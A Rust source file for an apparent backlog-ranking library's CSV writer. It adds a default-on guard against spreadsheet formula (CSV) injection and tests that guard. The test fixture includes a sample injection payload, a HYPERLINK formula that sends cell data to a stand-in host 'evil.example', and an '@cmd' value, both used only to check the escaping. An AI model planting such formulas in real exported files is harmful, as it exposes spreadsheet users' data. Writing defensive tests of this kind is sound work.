//! [`Writer`]: the CSV output with its options.

use std::io;

use crate::plan::PlannedOrder;
use crate::ranking::Ranking;

/// Writes rankings and planned orders as CSV, with options; [`write_ranking`](super::write_ranking)
/// and [`write_order`](super::write_order) are its defaults.
///
/// The one option is the formula guard, on by default: a text cell (an id, a title, a category)
/// that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading
/// `'`, so a spreadsheet that opens the file shows it as text instead of running it as a formula
/// (OWASP's "CSV injection"). Numbers are never changed.
///
/// ```
/// use prioritize::{Rice, csv};
///
/// let backlog = csv::read_backlog("id,title,reach,impact,confidence,effort\n-7,=1+1,10,1,1,1\n".as_bytes())?;
/// let rice = Rice::default();
/// let ranking = backlog.rank(&rice)?;
///
/// let mut guarded = Vec::new();
/// csv::Writer::new().write_ranking(&ranking, &mut guarded)?;
/// assert_eq!(
///     String::from_utf8(guarded)?.lines().nth(1),
///     Some("1,1,'-7,'=1+1,10.0,10.0,1.0,1.0,1.0,10.0")
/// );
///
/// // For a program that reads the file as data, not a spreadsheet: the cells as they are.
/// let mut raw = Vec::new();
/// csv::Writer::new().formula_guard(false).write_ranking(&ranking, &mut raw)?;
/// assert_eq!(String::from_utf8(raw)?.lines().nth(1), Some("1,1,-7,=1+1,10.0,10.0,1.0,1.0,1.0,10.0"));
/// # Ok::<(), Box<dyn std::error::Error>>(())
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Writer {
    formula_guard: bool,
}

impl Default for Writer {
    fn default() -> Writer {
        Writer { formula_guard: true }
    }
}

impl Writer {
    /// A writer with the default options: the formula guard on.
    pub fn new() -> Writer {
        Writer::default()
    }

    /// Turns the formula guard on (the default) or off.
    #[must_use]
    pub fn formula_guard(mut self, on: bool) -> Writer {
        self.formula_guard = on;
        self
    }

    /// Writes `ranking` as [`write_ranking`](super::write_ranking) describes.
    ///
    /// # Errors
    ///
    /// Any error of `writer`.
    pub fn write_ranking<W: io::Write>(&self, ranking: &Ranking<'_>, writer: W) -> io::Result<()> {
        super::write::ranking(ranking, writer, self.formula_guard)
    }

    /// Writes `order` as [`write_order`](super::write_order) describes.
    ///
    /// # Errors
    ///
    /// Any error of `writer`.
    pub fn write_order<W: io::Write>(&self, order: &PlannedOrder<'_>, writer: W) -> io::Result<()> {
        super::write::order(order, writer, self.formula_guard)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Moscow, Rice};

    /// Ids, titles and a promoted_by cell that a spreadsheet would run (JSON keeps the leading
    /// tab and carriage return, which the CSV reader trims).
    const BACKLOG: &str = r#"[
      {"id": "=A1", "title": "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")", "reach": 10,
       "impact": 1, "confidence": 1, "effort": 1, "moscow": "must", "depends_on": ["+B"]},
      {"id": "+B", "title": "@cmd", "reach": 5, "impact": 1, "confidence": 1, "effort": 1, "moscow": "should"},
      {"id": "-C", "title": "\tTabbed", "reach": 2, "impact": 1, "confidence": 1, "effort": 1, "moscow": "could"},
      {"id": "@D", "title": "\rReturn", "reach": 1, "impact": 1, "confidence": 1, "effort": 1, "moscow": "could"},
      {"id": "E", "title": "safe - title", "reach": 0, "impact": 1, "confidence": 1, "effort": 1, "moscow": "could"}
    ]"#;

    fn backlog() -> crate::Backlog {
        serde_json::from_str(BACKLOG).expect("reads")
    }

    fn written(write: impl FnOnce(&mut Vec<u8>) -> io::Result<()>) -> String {
        let mut out = Vec::new();
        write(&mut out).expect("written");
        String::from_utf8(out).expect("UTF-8")
    }

    #[test]
    fn the_guard_quotes_formula_text_and_leaves_numbers() {
        let backlog = backlog();
        let rice = Rice::default();
        let ranking = backlog.rank(rice).expect("ranks");
        let expected = "\
position,rank,id,title,score,reach,impact,confidence,effort,rice
1,1,'=A1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",10.0,10.0,1.0,1.0,1.0,10.0
2,2,'+B,'@cmd,5.0,5.0,1.0,1.0,1.0,5.0
3,3,'-C,'\tTabbed,2.0,2.0,1.0,1.0,1.0,2.0
4,4,'@D,\"'\rReturn\",1.0,1.0,1.0,1.0,1.0,1.0
5,5,E,safe - title,0.0,0.0,1.0,1.0,1.0,0.0
";
        assert_eq!(written(|out| Writer::new().write_ranking(&ranking, out)), expected);
        assert_eq!(written(|out| crate::csv::write_ranking(&ranking, out)), expected);
        assert_eq!(Writer::default(), Writer::new().formula_guard(true));
    }

    #[test]
    fn the_guard_can_be_turned_off() {
        let backlog = backlog();
        let rice = Rice::default();
        let ranking = backlog.rank(rice).expect("ranks");
        let raw = written(|out| Writer::new().formula_guard(false).write_ranking(&ranking, out));
        let rows: Vec<&str> = raw.lines().skip(1).take(2).collect();
        assert_eq!(
            rows,
            [
                "1,1,=A1,\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",10.0,10.0,1.0,1.0,1.0,10.0",
                "2,2,+B,@cmd,5.0,5.0,1.0,1.0,1.0,5.0"
            ]
        );
    }

    #[test]
    fn planned_orders_guard_ids_titles_and_promoted_by() {
        let backlog = backlog();
        let moscow = Moscow::default().then(Rice::default());
        let ranking = backlog.rank(&moscow).expect("ranks");
        let order = ranking.respecting_dependencies().expect("plans");
        let header =
            "position,rank,id,title,score,category,promoted_by,pinned,reach,impact,confidence,effort,rice";
        let guarded = written(|out| Writer::new().write_order(&order, out));
        assert_eq!(
            guarded.lines().take(3).collect::<Vec<_>>(),
            [
                header,
                "1,2,'+B,'@cmd,5.0,should,'=A1,false,5.0,1.0,1.0,1.0,5.0",
                "2,1,'=A1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"click\"\")\",10.0,must,,false,10.0,1.0,1.0,1.0,10.0"
            ]
        );
        assert_eq!(written(|out| crate::csv::write_order(&order, out)), guarded);
        let raw = written(|out| Writer::new().formula_guard(false).write_order(&order, out));
        assert_eq!(raw.lines().nth(1), Some("1,2,+B,@cmd,5.0,should,=A1,false,5.0,1.0,1.0,1.0,5.0"));
    }
}
